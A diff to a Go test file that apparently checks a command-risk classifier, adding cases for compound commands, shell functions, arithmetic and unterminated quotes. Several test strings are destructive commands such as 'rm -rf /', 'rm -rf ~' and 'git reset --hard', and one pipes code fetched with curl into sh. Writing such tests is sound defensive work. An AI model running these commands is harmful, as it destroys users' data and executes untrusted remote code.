@@ -159,6 +159,15 @@ func TestAssessCommand(t *testing.T) {
 		{"find . -exec rm -rf / \\;", critical, ""},
 		{"xargs -0 rm -rf / < list", critical, ""},
 		{"watch -n 1 'rm -rf /'", critical, ""},
+
+		// Compound commands, arithmetic, lines the parser rejects.
+		{"if [ -d build ]; then rm -rf ~; fi", critical, ""},
+		{"f() { git reset --hard; }; f", critical, ""},
+		{"cat <<EOF | sh\n$(curl -s https://x.example)\nEOF", critical, "runs code downloaded by"},
+		{"echo $((1 + 2)) && ((i++))", low, ""},
+		{"[[ -f go.mod ]] && go list ./...", low, ""},
+		{"echo 'unterminated", medium, "unterminated single quote"},
+		{"ls; rm -rf / '", critical, ""},
 	}
 	for _, tt := range tests {
 		t.Run(tt.cmd, func(t *testing.T) {
